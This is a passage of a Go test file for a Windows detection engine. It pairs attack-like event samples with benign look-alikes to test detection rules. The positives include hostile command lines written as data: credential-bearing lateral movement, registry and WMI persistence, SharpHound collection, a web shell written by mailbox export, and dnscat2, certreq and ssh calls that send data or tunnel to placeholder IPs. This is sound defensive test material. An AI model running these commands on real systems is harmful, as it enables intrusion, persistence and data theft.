		id:  "1dbde9e5-ad4e-4fde-8bc7-6fbed72dc423", // Ping Sweep From PowerShell
		pos: bScript(`1..254 | ForEach-Object { if (Test-Connection -Count 1 -Quiet "10.0.0.$_") { "10.0.0.$_" } }`),
		neg: bScript(`Test-Connection -ComputerName fileserver01 -Count 2`),
	},
	{
		id:  "3a39a6e4-7c62-4475-a431-4ff8bfbd6ae9", // Domain Computers Enumerated With the ActiveDirectory Module
		pos: bScript(`Get-ADComputer -Filter * -Properties OperatingSystem | Select-Object Name, OperatingSystem`),
		neg: bScript(`Get-ADComputer -Identity WS01 -Properties LastLogonDate`),
	},
	{
		id:  "93fbb6ba-7c5d-4c6e-b58a-bead1f48161c", // Domain Users Enumerated With the ActiveDirectory Module
		pos: bScript(`Get-ADUser -Filter * -Properties ServicePrincipalName | Where-Object ServicePrincipalName`),
		neg: bScript(`Get-ADUser -Identity bob -Properties PasswordLastSet`),
	},
	{
		id:  "50d9241f-e4b2-4e1e-973a-6da9fe3ec5b2", // Domain Group Membership Enumerated With the ActiveDirectory Module
		pos: bScript(`Get-ADGroupMember -Identity "Domain Admins" -Recursive`),
		neg: bSample{chPS, 4104, map[string]string{"ScriptBlockText": `$members = Get-ADGroupMember -Identity $Name @commonParameters`,
			"Path": `C:\Program Files\WindowsPowerShell\Modules\ActiveDirectoryDsc\DSCResources\MSFT_ADGroup\MSFT_ADGroup.psm1`}},
	},
	{
		id:  "42534884-ca32-42c0-8ec4-c1d76123eee4", // Local Accounts Listed With PowerShell
		pos: bScript(`Get-LocalUser | Where-Object Enabled`),
		neg: bScript(`New-LocalUser -Name kiosk -NoPassword`),
	},
	{
		id:  "82fec136-c0aa-4061-a5f2-5fb819b62021", // Local Group Members Listed With PowerShell
		pos: bScript(`Get-LocalGroupMember -Group Administrators`),
		neg: bScript(`Add-LocalGroupMember -Group "Remote Desktop Users" -Member bob`),
	},
}

var samplesB6 = []samplePair{
	{
		id:  "ee55bf7f-918a-4420-91db-c0465830a36a", // Documents or Secrets Searched For Recursively From PowerShell
		pos: bScript(`Get-ChildItem -Path C:\Users -Recurse -Include *.kdbx, *.docx -ErrorAction SilentlyContinue`),
		neg: bScript(`Get-ChildItem -Path C:\Projects\app -Recurse -Include *.cs | Measure-Object`),
	},
	{
		id:  "d3f007b5-5f43-447d-997e-597fd5416365", // Operating System Details Read From PowerShell
		pos: bScript(`Get-ComputerInfo | Select-Object OsName, OsVersion, CsDomain`),
		neg: bScript(`(Get-CimInstance Win32_OperatingSystem).LastBootUpTime`),
	},
}

var samplesB7 = []samplePair{
	{
		id:  "fc4be505-2ba5-4654-be0d-c24ca0356ec3", // Session Manager BootExecute Modified
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Session Manager\BootExecute`, `autocheck autochk * bootrun.exe`),
		neg: bReg(`C:\Windows\System32\chkntfs.exe`, `HKLM\System\CurrentControlSet\Control\Session Manager\BootExecute`, `autocheck autochk *`),
	},
	{
		id:  "09b269bd-b1e7-41f0-abbb-a735ecac7b85", // Command Processor AutoRun Set
		pos: bReg(imgReg, hkuUser+`\Software\Microsoft\Command Processor\AutoRun`, `C:\Users\Public\a.bat`),
		neg: bReg(imgReg, hkuUser+`\Software\Microsoft\Command Processor\CompletionChar`, `DWORD (0x00000009)`),
	},
	{
		id:  "756ded72-dbaf-4650-b4aa-5cc9c5ba9e33", // Winlogon Notify, AppSetup or Taskman Value Written
		pos: bReg(imgReg, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Notify\evil\DLLName`, `C:\Windows\Temp\notify.dll`),
		neg: bReg(imgSvchost, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\AutoRestartShell`, `DWORD (0x00000001)`),
	},
	{
		id:  "f27114cd-3ff4-4fa2-a1f1-eaf1d367749a", // Service Recovery Command Set
		pos: bReg(`C:\Windows\System32\services.exe`, `HKLM\System\CurrentControlSet\Services\Spooler\FailureCommand`, `C:\Users\Public\r.exe`),
		neg: bReg(`C:\Windows\System32\services.exe`, `HKLM\System\CurrentControlSet\Services\Spooler\FailureActions`, `Binary Data`),
	},
	{
		id:  "39645fe2-1571-40b0-a0f3-3a06cd03ccda", // Service Recovery Command Set With sc failure
		pos: bProc(`C:\Windows\System32\sc.exe`, `sc failure Spooler reset= 0 actions= run/1000 command= "C:\Users\Public\r.exe"`, imgCmd),
		neg: bProc(`C:\Windows\System32\sc.exe`, `sc failure Spooler reset= 86400 actions= restart/60000`, imgCmd),
	},
}

var samplesB8 = []samplePair{
	{
		id:  "a7b92519-d3dd-4c8f-a6c5-9183a828f907", // Administrative Share Mapped With Explicit Credentials
		pos: bProc(imgNet, `net use \\fs01\C$ /user:CORP\admin P@ssw0rd`, imgCmd),
		neg: bProc(imgNet, `net use H: \\fs01\home\bob /persistent:yes`, imgCmd),
	},
	{
		id:  "4ec917e3-af6c-460f-bbb0-2a5c6ac7220b", // File Copied to a Remote Administrative Share
		pos: bProc(imgCmd, `cmd.exe /c copy C:\Users\Public\svc.exe \\ws02\ADMIN$\svc.exe`, imgPS),
		neg: bProc(imgCmd, `cmd.exe /c copy \\fs01\deploy\setup.msi C:\Temp\setup.msi`, imgExpl),
	},
	{
		id:  "3acfa767-1012-4e0c-b064-4cad78f0b69d", // Remote Command Run With winrs
		pos: bProc(`C:\Windows\System32\winrs.exe`, `winrs -r:ws02 -u:CORP\admin -p:P@ss whoami`, imgCmd),
		neg: bProc(`C:\Windows\System32\winrm.cmd`, `winrm quickconfig -q`, imgCmd),
	},
	{
		id:  "4fe2cf4a-f54a-406c-948a-a121557739a0", // Remote Desktop Credentials Stored With cmdkey
		pos: bProc(`C:\Windows\System32\cmdkey.exe`, `cmdkey /generic:TERMSRV/ws02 /user:CORP\admin /pass:P@ssw0rd`, imgCmd),
		neg: bProc(`C:\Windows\System32\cmdkey.exe`, `cmdkey /list`, imgCmd),
	},
}

var samplesB9 = []samplePair{
	{
		id:  "589d8b7a-4e05-47f4-9cf6-6d3472ebbcb3", // Well-Known RPC Pipe Name Created Under a Nested Path
		pos: bSample{chSysmon, 17, map[string]string{"Image": `C:\Users\Public\PrintSpoofer64.exe`, "PipeName": `\a1b2c3\pipe\spoolss`}},
		neg: bSample{chSysmon, 17, map[string]string{"Image": `C:\Windows\System32\spoolsv.exe`, "PipeName": `\spoolss`}},
	},
	{
		id:  "2d799bb6-28ca-438d-90ae-a912e0d3f716", // DNS Tunnelling Client Started
		pos: bProc(`C:\Users\Public\dnscat2.exe`, `dnscat2.exe --dns server=203.0.113.53,port=53 --secret=abc`, imgCmd),
		neg: bProc(`C:\Windows\System32\nslookup.exe`, `nslookup -type=mx corp.local`, imgCmd),
	},
}

var samplesB10 = []samplePair{
	{
		id:  "3d5b2567-fae5-4554-af06-9b7990313cd2", // Signed Proxy Binary Connects to an Internet Address
		pos: bNet(`C:\Windows\System32\rundll32.exe`, "203.0.113.7", "443", "true"),
		neg: bNet(`C:\Windows\System32\rundll32.exe`, "10.0.0.5", "445", "true"),
	},
	{
		id: "a22a7e2f-e764-4df3-879c-6f14516d0adc", // Resource-Based Constrained Delegation Written to an Account
		pos: bSec(5136, map[string]string{"AttributeLDAPDisplayName": "msDS-AllowedToActOnBehalfOfOtherIdentity", "ObjectClass": "computer",
			"ObjectDN": "CN=FS01,OU=Servers,DC=corp,DC=local", "SubjectUserName": "mallory"}),
		neg: bSec(5136, map[string]string{"AttributeLDAPDisplayName": "msDS-AllowedToDelegateTo", "ObjectClass": "computer",
			"ObjectDN": "CN=WEB01,OU=Servers,DC=corp,DC=local", "SubjectUserName": "alice"}),
	},
	{
		id: "fc7a8589-f00d-4eb0-8396-0c1dc0784dc9", // Key Credential Link Written by a User Account
		pos: bSec(5136, map[string]string{"AttributeLDAPDisplayName": "msDS-KeyCredentialLink", "ObjectClass": "user",
			"ObjectDN": "CN=admin,CN=Users,DC=corp,DC=local", "SubjectUserName": "mallory"}),
		neg: bSec(5136, map[string]string{"AttributeLDAPDisplayName": "msDS-KeyCredentialLink", "ObjectClass": "computer",
			"ObjectDN": "CN=WS01,OU=Workstations,DC=corp,DC=local", "SubjectUserName": "WS01$"}),
	},
}

var samplesB11 = []samplePair{
	{
		id:  "61ccd457-edcb-46a4-9e8e-9cb7fdf3b840", // Mailbox Access or Delegate Permission Granted From PowerShell
		pos: bScript(`Add-MailboxPermission -Identity ceo@corp.local -User mallory -AccessRights FullAccess -InheritanceType All`),
		neg: bScript(`Get-MailboxPermission -Identity ceo@corp.local | Where-Object { $_.IsInherited -eq $false }`),
	},
	{
		id:  "a6e1bee2-ac2f-4a32-b06f-5f7bb96d5bd2", // Outlook Rule or Form Planted With Ruler
		pos: bProc(`C:\Users\Public\ruler.exe`, `ruler.exe --email bob@corp.local --username bob add --location "\\\\10.0.0.66\\share\\shell.bat" --trigger "invoice" --name maintenance --send`, imgCmd),
		neg: bProc(`C:\Users\Public\ruler.exe`, `ruler.exe --email bob@corp.local --username bob display`, imgCmd),
	},
	{
		id:  "b91d3b28-ea02-425e-9f21-2c31d37c898e", // Outlook Custom Form Planted With Ruler
		pos: bProc(`C:\Users\Public\ruler.exe`, `ruler.exe --email bob@corp.local form add --suffix superduper --input C:\Users\Public\command.txt --send`, imgCmd),
		neg: bProc(`C:\Users\Public\ruler.exe`, `ruler.exe --email bob@corp.local form display`, imgCmd),
	},
	{
		id:  "e5fb8ac1-43ee-43e5-872f-790f5e567d0e", // Program Files Binary Written by a Shell or Script Host
		pos: bFile(imgPS, `C:\Program Files\Contoso\Agent\contoso-svc.exe`),
		neg: bFile(imgMsiexec, `C:\Program Files\Contoso\Agent\contoso-svc.exe`),
	},
}

var samplesB12 = []samplePair{
	{
		id:  "10eca1b1-feda-4b1a-92d6-189a71f7817c", // BloodHound Collector Run
		pos: bProc(`C:\Users\Public\SharpHound.exe`, `SharpHound.exe -c All --ZipFileName loot.zip`, imgCmd),
		neg: bProc(`C:\Windows\System32\dsa.msc`, `mmc.exe C:\Windows\System32\dsa.msc`, imgExpl),
	},
	{
		id:  "05b5898d-1afc-4e4e-a266-33964b7bd0cf", // BloodHound Collection Archive Written
		pos: bFile(`C:\Users\Public\SharpHound.exe`, `C:\Users\Public\20261202125900_BloodHound.zip`),
		neg: bFile(`C:\Windows\explorer.exe`, `C:\Users\bob\Documents\users.json`),
	},
	{
		id:  "5a0c71ae-17d3-49dc-9448-7e324af1fc12", // BloodHound Collector Loaded in PowerShell
		pos: bScript(`Invoke-BloodHound -CollectionMethod All -OutputDirectory $env:TEMP`),
		neg: bScript(`Get-ADUser -Identity bob`),
	},
}

var samplesB13 = []samplePair{
	{
		id:  "11d8aacf-69bb-467c-9352-2319a44b99c7", // Mailbox Export Request Writes a Web Page
		pos: bScript(`New-MailboxExportRequest -Mailbox admin@corp.local -IncludeFolders "#Drafts#" -FilePath "\\localhost\c$\inetpub\wwwroot\aspnet_client\shell.aspx"`),
		neg: bScript(`New-MailboxExportRequest -Mailbox bob@corp.local -FilePath "\\fs01\pst\bob.pst"`),
	},
	{
		id:  "9744217b-1b56-42c3-bca6-18b89ffd9a7f", // Remote Desktop Session Shadowed Without Consent
		pos: bProc(`C:\Windows\System32\mstsc.exe`, `mstsc.exe /v:ws02 /shadow:2 /control /noConsentPrompt`, imgCmd),
		neg: bProc(`C:\Windows\System32\mstsc.exe`, `mstsc.exe /v:ws02 /admin`, imgExpl),
	},
}

var samplesB14 = []samplePair{
	{
		id: "b5bebf1a-cd81-4446-a3bb-b265d203c38b", // Permanent WMI Event Consumer Runs a Command or Script
		pos: bSample{"Microsoft-Windows-WMI-Activity/Operational", 5861, map[string]string{"Namespace": `//./root/subscription`, "ESS": "Updater",
			"CONSUMER": `CommandLineEventConsumer="Updater"`, "PossibleCause": `Binding EventFilter: instance of __EventFilter { Name = "Updater"; }; Perm. Consumer: instance of CommandLineEventConsumer { CommandLineTemplate = "C:\\Users\\Public\\u.exe"; };`}},
		neg: bSample{"Microsoft-Windows-WMI-Activity/Operational", 5861, map[string]string{"Namespace": `//./root/subscription`, "ESS": "SCM Event Log Filter",
			"CONSUMER": `NTEventLogEventConsumer="SCM Event Log Consumer"`, "PossibleCause": `Binding EventFilter: instance of __EventFilter { Name = "SCM Event Log Filter"; }; Perm. Consumer: instance of NTEventLogEventConsumer { Name = "SCM Event Log Consumer"; };`}},
	},
	{
		id:  "0444e023-5c33-455f-af44-28c33a1d1ec4", // MOF File Compiled From a User-Writable Folder
		pos: bProc(`C:\Windows\System32\wbem\mofcomp.exe`, `mofcomp.exe C:\Users\Public\sub.mof`, imgCmd),
		neg: bProc(`C:\Windows\System32\wbem\mofcomp.exe`, `mofcomp.exe "C:\Program Files\Contoso\Agent\provider.mof"`, imgMsiexec),
	},
	{
		id:  "4ade2515-79ef-46f6-835a-78c7238dad1f", // Service Created From PowerShell With a Shell or Writable-Folder Binary
		pos: bScript(`New-Service -Name "Updater" -BinaryPathName "C:\Users\Public\u.exe" -StartupType Automatic`),
		neg: bScript(`New-Service -Name "ContosoAgent" -BinaryPathName '"C:\Program Files\Contoso\agent.exe"' -StartupType Automatic`),
	},
}

var samplesB15 = []samplePair{
	{
		id:  "31c8374b-130e-4677-8a30-1428dddba561", // Domain Trust Created or Modified
		pos: bSec(4716, map[string]string{"DomainName": "partner.example", "SidFilteringEnabled": "-", "SubjectUserName": "mallory"}),
		neg: bSec(4739, map[string]string{"DomainName": "CORP", "MinPasswordLength": "12", "SubjectUserName": "alice"}),
	},
	{
		id:  "04231c4a-30b3-4efa-ab7a-e5eb4882729b", // Domain Trust Created or Loosened From the Command Line
		pos: bProc(`C:\Windows\System32\netdom.exe`, `netdom trust corp.local /domain:partner.example /quarantine:no /usero:admin /passwordo:*`, imgCmd),
		neg: bProc(`C:\Windows\System32\netdom.exe`, `netdom trust corp.local /domain:partner.example /verify`, imgCmd),
	},
}

// morePositivesB exercise the other branches of rules with several
// selections.
var morePositivesB = []struct {
	id string
	s  bSample
}{
	{
		id: "98a4527f-36ad-471c-9b51-dd11abc3d18c", // Windows Utility Abused to Download a File
		s:  bProc(`C:\Windows\System32\certreq.exe`, `certreq -Post -config http://203.0.113.7/ c:\windows\win.ini`, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`),
	},
	{
		id: "98a4527f-36ad-471c-9b51-dd11abc3d18c", // Windows Utility Abused to Download a File
		s:  bProc(imgChrome, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --headless --enable-logging --disable-gpu --dump-dom "http://203.0.113.7/p.txt"`, imgCmd),
	},
	{
		id: "61d18f60-7a4b-462b-a741-445445f0e589", // Image File Execution Options Debugger or Silent Exit Monitor Set
		s:  bReg(imgReg, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe\Debugger`, `C:\Users\Public\beacon.exe`),
	},
	{
		id: "baba5d8d-a19f-45c6-8ea2-79f6410d4830", // Remote Desktop Enabled From the Command Line
		s:  bProc(imgPS, `powershell.exe -c "Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0"`, imgCmd),
	},
	{
		id: "cd0681e0-3690-4cb0-95db-4f25a1959f3f", // Tunnelling Tool Started
		s:  bProc(`C:\Windows\System32\OpenSSH\ssh.exe`, `ssh.exe -N -R 4444:127.0.0.1:3389 tunnel@203.0.113.9`, imgCmd),
	},
	{
		id: "77030d09-1016-48c9-af8e-8019f17add8c", // Recursive Listing of User or Drive Folders From a Shell
		s:  bProc(imgPS, `powershell.exe -c "Get-ChildItem -Path C:\Users -Recurse -Include *.pdf"`, imgCmd),
	},
}

// moreLookAlikesB are further benign look-alikes for rules whose first one
// does not exercise every filter.
var moreLookAlikesB = []struct {
	id string
	s  bSample
}{
	{
		id: "7620962e-19eb-4541-9dd9-4cad4ac6d68a", // Security-Relevant Event Logs Read From a Command Line
		s:  bProc(imgPS, `powershell.exe -c "Get-WinEvent -LogName System -MaxEvents 10"`, imgCmd),
	},
	{
		id: "42cd38c4-3f97-4a1f-ac34-b48335c392db", // Base64-Encoded Data Sent in a Web Request From PowerShell
		s:  bScript(`$b = [Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes("$u:$p")); Invoke-RestMethod -Uri "https://jira.corp.local/rest/api/2/search?jql=x" -Headers @{Authorization = "Basic $b"}`),
	},
	{
		id: "baba5d8d-a19f-45c6-8ea2-79f6410d4830", // Remote Desktop Enabled From the Command Line
		s:  bProc(imgReg, `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 1 /f`, imgCmd),
	},
	{
		id: "2c5f360e-c31f-4500-ba76-27ec6f679630", // File Type Open Command Points at a Shell or Script Host
		s:  bReg(imgReg, `HKLM\SOFTWARE\Classes\Applications\photoviewer.dll\shell\open\command\(Default)`, `%SystemRoot%\System32\rundll32.exe "%ProgramFiles%\Windows Photo Viewer\PhotoViewer.dll", ImageView_Fullscreen %1`),
	},
	{
		id: "ca26711d-ee2c-49f2-bad8-b4ad84d60220", // Port Forwarding Added With netsh portproxy
		s:  bProc(imgNetsh, `netsh interface portproxy show all`, imgCmd),
	},
	{
		id: "61d18f60-7a4b-462b-a741-445445f0e589", // Image File Execution Options Debugger or Silent Exit Monitor Set
		s:  bReg(imgReg, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger`, `C:\Windows\System32\cmd.exe`),
	},
	{
		id: "f9b761b4-e87c-4b20-8ec6-2707fa406038", // Packet Capture Started on the Host
		s:  bProc(imgNetsh, `netsh.exe trace start capture=yes traceFile="C:\Windows\TEMP\nw\cap.etl"`, `C:\Packages\Plugins\Microsoft.Azure.NetworkWatcher.NetworkWatcherAgentWindows\1.4.0.0\NetworkWatcherAgent\NetworkWatcherAgent.exe`),
	},
	{
		id: "21a1aebf-82da-4722-a850-94d60d3dd6c5", // Password Policy Read From PowerShell
		s: bSample{chPS, 4104, map[string]string{"ScriptBlockText": `$policy = Get-ADDefaultDomainPasswordPolicy @commonParameters`,
			"Path": `C:\Program Files\WindowsPowerShell\Modules\ActiveDirectoryDsc\DSCResources\MSFT_ADDomainDefaultPasswordPolicy\MSFT_ADDomainDefaultPasswordPolicy.psm1`}},
	},
	{
		id: "b91009d3-f305-4207-a1b8-05c0d05a46fa", // Executable Planted on an Unquoted Path Prefix
		s:  bFile(`C:\Users\bob\Downloads\tool-setup.exe`, `C:\Program Files\Contoso\bin\contoso.exe`),
	},
	{
		id: "b2eb2171-fcb3-4892-b376-92579d39252d", // Installed Software Listed With WMIC
		s:  bProc(imgWmic, `wmic csproduct get uuid`, imgCmd),
	},
}

func init() {
	for _, p := range slices.Concat(samplesB, samplesB2, samplesB3, samplesB4, samplesB5, samplesB6, samplesB7, samplesB8, samplesB9, samplesB10, samplesB11, samplesB12, samplesB13, samplesB14, samplesB15) {
		rulePositives = append(rulePositives, ruleSample{ID: p.id, Channel: p.pos.channel, EventID: p.pos.eventID, Fields: p.pos.fields})
		ruleNegatives = append(ruleNegatives, ruleSample{ID: p.id, Channel: p.neg.channel, EventID: p.neg.eventID, Fields: p.neg.fields})
	}
	for _, n := range morePositivesB {
		rulePositives = append(rulePositives, ruleSample{ID: n.id, Channel: n.s.channel, EventID: n.s.eventID, Fields: n.s.fields})
	}
	for _, n := range moreLookAlikesB {
		ruleNegatives = append(ruleNegatives, ruleSample{ID: n.id, Channel: n.s.channel, EventID: n.s.eventID, Fields: n.s.fields})
	}
}

// TestCorrelationPortScanAndSweep drives the two network-service-discovery
// correlations with connections of one process: many ports of one host, one
// admin port on many hosts, and the same volume spread so that no threshold
// is reached (a browser talking to a few servers, the kernel SMB client).
func TestCorrelationPortScanAndSweep(t *testing.T) {
	const scan, sweep = "One Process Connects to Many Ports of One Host", "One Process Sweeps an Admin Port Across Many Hosts"
	conn := func(i int, image, ip string, port int) *huntflow.Event {
		return &huntflow.Event{
			ID: fmt.Sprintf("n%d", i), Time: t0.Add(time.Duration(i) * 2 * time.Second), Channel: chSysmon, EventID: 3, Host: "WS01",
			Image: image, ProcessGUID: "{" + image + "}",
			Fields: map[string]string{"Image": image, "DestinationIp": ip, "DestinationPort": strconv.Itoa(port), "Initiated": "true"},
		}
	}
	tests := []struct {
		name string
		evs  func() []*huntflow.Event
		want []string
	}{
		{"ten ports of one host", func() (evs []*huntflow.Event) {
			for i := range 10 {
				evs = append(evs, conn(i, `C:\Tools\scan.exe`, "10.0.0.5", 20+i))
			}
			return evs
		}, []string{scan}},
		{"nine ports stay below the threshold", func() (evs []*huntflow.Event) {
			for i := range 9 {
				evs = append(evs, conn(i, `C:\Tools\scan.exe`, "10.0.0.5", 20+i))
			}
			return evs
		}, nil},
		{"SMB on fifteen hosts", func() (evs []*huntflow.Event) {
			for i := range 15 {
				evs = append(evs, conn(i, imgPS, fmt.Sprintf("10.0.1.%d", i+1), 445))
			}
			return evs
		}, []string{sweep}},
		{"kernel SMB client on fifteen hosts", func() (evs []*huntflow.Event) {
			for i := range 15 {
				evs = append(evs, conn(i, "System", fmt.Sprintf("10.0.1.%d", i+1), 445))
			}
			return evs
		}, nil},
		{"browser to a few internal web servers", func() (evs []*huntflow.Event) {
			for i := range 30 {
				evs = append(evs, conn(i, imgChrome, fmt.Sprintf("10.0.2.%d", i%4+1), 443))
			}
			return evs
		}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			evs := tc.evs()
			cls, err := defaultDetector(t).Detect(context.Background(), span(evs), evs)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range cls.Findings {
				got = append(got, f.Title)
			}
			slices.Sort(got)
			if !slices.Equal(got, tc.want) {
				t.Errorf("findings %v, want %v", got, tc.want)
			}
		})
	}
}
